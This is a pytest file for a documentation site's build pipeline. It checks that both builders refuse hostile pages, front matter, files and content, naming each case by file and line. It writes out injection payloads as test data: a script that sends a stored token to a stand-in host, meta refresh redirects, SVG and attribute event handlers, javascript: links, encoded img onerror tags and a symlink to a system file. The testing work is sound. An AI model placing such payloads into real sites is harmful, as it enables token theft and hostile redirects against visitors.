"""Hostile hand-written pages, front matter, files and content, built with both builders (issue 18).

Three layers, each shown on its own:
- the source checks (docs_check.py, markup.py): `mkdocs build` and the Zensical path's first step
  (`python -m guide.plain`) both refuse every case, naming its file, line and column;
- the output pass alone (boundary.py): the same cases written into the Markdown after the source
  checks have run, as a builder path that skipped them would, then built by Zensical and by MkDocs
  without the guide's hooks: `python -m guide.boundary` refuses every page and file, by name;
- what is not refused (quotes in a summary) is inert in both builds (tests/browser/test_hostile_pages.py
  opens it in Chromium).
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from conftest import copy_of_repo, mkdocs_build

PYTHON = [sys.executable]
ZENSICAL = Path(sys.executable).parent / "zensical"
SCRIPTS = str(Path(__file__).resolve().parents[2] / "scripts")
SCRIPT = "<script>fetch('https://x.example/?' + localStorage.getItem('token'))</script>"
REFRESH = '<meta http-equiv="refresh" content="0;url=https://x.example/">'
BREAKOUT = '0;url=https://x.example/" http-equiv="refresh'

# The six ways in from the issue, and others like them. Each: a file, how to change it, and what
# the source check says (file:line:col and words) and where the output pass finds it.
# fmt: off
HAND_WRITTEN = {
    # 1. close the article and add a script
    "docs/about.md": ("append", f"\n</article>{SCRIPT}<article>\n", "raw HTML"),
    # 2. structured data (any head key) in a hand-written page's front matter
    "docs/index.md": ("front", f'structured_data: "</script>{SCRIPT}"\n', "'structured_data' is the page generator's"),
    # 3. a meta refresh
    "docs/es/about.md": ("append", f"\n{REFRESH}\n", "raw HTML"),
    # 4. files in docs/ that are not the guide's types: a script in an SVG, an .htm page
    "docs/assets/images/logo.svg": ("write", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "an SVG file"),
    "docs/offer.htm": ("write", f"<!doctype html>{SCRIPT}", "publishes no file like this"),
    # held out: a script among images (the web editor's media folder), another template, a javascript: link,
    # an attribute list with a handler, an image from elsewhere, a character code
    "docs/assets/images/upload.js": ("write", "alert(1)", "publishes no file like this"),
    "docs/es/index.md": ("front", "template: redirect.html\nlocation: https://x.example/\n", "'template'"),
    "docs/privacy.md": ("write", "# Privacy\n\n[Read more](javascript:alert(1))\n", "a link to 'javascript:"),
    "docs/news.md": ("write", '# News\n\nHello.\n{: onmouseover="alert(1)" }\n', "attribute lists"),
    "docs/pixel.md": ("write", "# Pixel\n\n![x](https://x.example/t.png)\n", "an image from"),
    "docs/codes.md": ("write", "# Codes\n\n&#60img src=x onerror=alert(1)&#62\n", "character codes"),
    # held out by an attacker's review: HTML after a fence Markdown does not read as one, front matter
    # closed with '...', a list where a description belongs, a second web editor under es/, an id the
    # theme reads its settings from, a file name that would write _headers, a link to a file elsewhere
    "docs/fence.md": ("write", f"# Fence\n\n```foo bar baz\n\n</article><noscript><textarea></noscript>{REFRESH}</textarea></noscript>\n\n```\n", "raw HTML"),
    "docs/dots.md": ("write", "---\ntitle: Dots\nstructured_data: '[]'\n...\n# Dots\n", "'structured_data'"),
    "docs/listed.md": ("write", "---\ndescription: ['\"><b>']\n---\n# Listed\n", "one line of text"),
    "docs/es/admin/index.html": ("write", "<!doctype html><title>x</title>", "an HTML file is published"),
    "docs/settings.md": ("write", "# Settings\n\nText.\n{ #__config }\n", "attribute lists"),
    "docs/embed/z\n/index.md": ("write", "# Z\n", "no spaces or line breaks"),
    "docs/assets/data/leak.json": ("link", "/etc/hostname", "a link to another file"),
}
# 5. the meta-description break-out is ordinary text (quotes), so it is built and shown inert.
# 6. character references without ';' in the glossary, and definitions over two lines in content:
CONTENT = {
    ("glossary.yml", "definition: A strong protein in the skin that keeps it firm."):
        ("definition: A protein &#60img src=x onerror=alert(1)&#62", "character codes"),
    ("faq.yml", "intro: >-\n"): ("intro: |-\n  [text\n  ]: javascript:alert(1)\n", "definitions"),
    ("aftercare.yml", "summary: A day-by-day guide"): ("summary: '*[Word] : any text' # guide", "definitions"),
}
# fmt: on


def hostile(repo: Path) -> None:
    """Put every hand-written case into a copy of the project."""
    for name, (how, text, _) in HAND_WRITTEN.items():
        path = repo / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if how == "link":
            path.symlink_to(text)
        elif how == "append":
            path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")
        elif how == "front":
            path.write_text(path.read_text(encoding="utf-8").replace("---\n", "---\n" + text, 1), encoding="utf-8")
        else:
            path.write_text(text, encoding="utf-8")


def with_hostile_content(repo: Path) -> None:
    for (name, old), (new, _) in CONTENT.items():
        path = repo / "content" / name
        text = path.read_text(encoding="utf-8")
        assert old in text, (name, old)
        path.write_text(text.replace(old, new, 1), encoding="utf-8")


@pytest.fixture(scope="module")
def hostile_repo(tmp_path_factory) -> Path:
    repo = copy_of_repo(tmp_path_factory.mktemp("hostile"))
    hostile(repo)
    with_hostile_content(repo)
    return repo


def source_output(repo: Path, builder: str, tmp_path: Path) -> str:
    """What each builder's first step prints when it refuses: `mkdocs build`, or guide.plain for Zensical."""
    if builder == "mkdocs":
        result = mkdocs_build(repo, tmp_path / "site", env={"NO_MKDOCS_2_WARNING": "1", "PATH": "/usr/bin:/bin"})
    else:
        command = [*PYTHON, "-m", "guide.plain", str(tmp_path / "zensical")]
        result = subprocess.run(command, cwd=repo, capture_output=True, text=True, env={"PYTHONPATH": SCRIPTS})
    assert result.returncode != 0
    assert "Traceback" not in result.stderr, result.stderr
    return result.stdout + result.stderr


@pytest.mark.parametrize("builder", ["mkdocs", "zensical"])
def test_the_source_checks_refuse_every_case_at_its_place_in_both_builds(hostile_repo, builder, tmp_path):
    printed = source_output(hostile_repo, builder, tmp_path)
    for name, (_, _, words) in HAND_WRITTEN.items():
        shown = name.encode("unicode_escape").decode()
        assert any(line.startswith(f"{shown}:") and words in line for line in printed.splitlines()), (name, printed)
    for (name, _), (_, words) in CONTENT.items():
        assert any(f"content/{name}:" in line and words in line for line in printed.splitlines()), (name, printed)
    assert not (tmp_path / "site").exists() or not list((tmp_path / "site").iterdir()), "no site is left behind"


# The same attacks written into the Markdown a builder reads, after the source checks (out/docs/),
# and where the output pass finds each in the built site.
# fmt: off
BUILT = {
    "about.md": (f"# About\n\n</article>{SCRIPT}<article>\n", "about/index.html", "an inline script"),
    "data.md": (f'---\nstructured_data: "</script>{SCRIPT}"\n---\n# Data\n', "data/index.html", "an inline script"),
    "moved.md": (f"# Moved\n\n{REFRESH}\n", "moved/index.html", "<meta http-equiv>"),
    "assets/images/logo.svg": ('<svg onload="alert(1)"/>', "assets/images/logo.svg", "an SVG file"),
    "offer.htm": (f"<!doctype html>{SCRIPT}", "offer.htm", "no '.htm' files"),
    "summary.md": (f"---\ndescription: '{BREAKOUT}'\n---\n# Summary\n", "summary/index.html", "<meta http-equiv>"),
    "tooltip.md": ("# Tooltip\n\nPRP\n\n*[PRP]: &#60img src=x onerror=alert(1)&#62\n", "tooltip/index.html", "holds '<'"),
    "upload.md": ("# Upload\n\n[x](javascript:alert(1))\n", "upload/index.html", "javascript:alert(1)"),
    "fence.md": (f"# Fence\n\n```foo bar baz\n\n<noscript><textarea></noscript>{REFRESH}</textarea></noscript>\n\n```\n", "fence/index.html", "<noscript>"),
    "listed.md": ("---\ndescription: ['\" http-equiv=\"refresh\" content=\"0;url=https://x.example/']\n---\n# Listed\n", "listed/index.html", "<meta http-equiv>"),
    "settings.md": ('# Settings\n\nText.\n{ #__config }\n', "settings/index.html", "id '__config'"),
    # held out by a second attacker's review: content closed two levels up and started again, an SVG
    # script that loads by href, a second theme configuration before the theme's own
    "deep.md": ("# Deep\n\n</article></div><form><input></form><div><article>\n", "deep/index.html", "more than one <article>"),
    "svg.md": ('# Svg\n\n<svg><script href="../admin/sveltia-cms.js"></script></svg>\n', "svg/index.html", "scripts load only with src"),
    "config.md": ('# Config\n\n<script id="__config" type="application/json">{"redirect": "go.json"}</script>\n', "config/index.html", "more than one #__config"),
}
# fmt: on


@pytest.mark.parametrize("builder", ["zensical", "mkdocs without the guide's hooks"])
def test_the_output_pass_alone_refuses_every_case_in_both_builds(tmp_path, builder):
    repo = copy_of_repo(tmp_path)
    out = tmp_path / "out"
    env = {"PYTHONPATH": SCRIPTS, "NO_MKDOCS_2_WARNING": "1", "PATH": "/usr/bin:/bin"}
    configs = subprocess.run(
        [*PYTHON, "-m", "guide.plain", str(out)], cwd=repo, env=env, capture_output=True, text=True
    )
    assert configs.returncode == 0, configs.stderr
    english = out / "mkdocs.yml"
    for name, (text, _, _) in BUILT.items():
        (out / "docs" / name).parent.mkdir(parents=True, exist_ok=True)
        (out / "docs" / name).write_text(text, encoding="utf-8")
    if builder == "zensical":
        built = subprocess.run([ZENSICAL, "build", "-f", english], capture_output=True, text=True)
    else:
        built = subprocess.run(
            [*PYTHON, "-m", "mkdocs", "build", "-f", english], env=env, capture_output=True, text=True
        )
    assert built.returncode == 0, built.stdout + built.stderr
    command = [*PYTHON, "-m", "guide.boundary", str(out / "site"), "-f", str(repo / "mkdocs.yml"), "--root", str(repo)]
    result = subprocess.run(command, env=env, capture_output=True, text=True)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    for _, (_, page, words) in BUILT.items():
        assert any(line.startswith(f"{page}: ") and words in line for line in result.stderr.splitlines()), (
            page,
            result.stderr,
        )
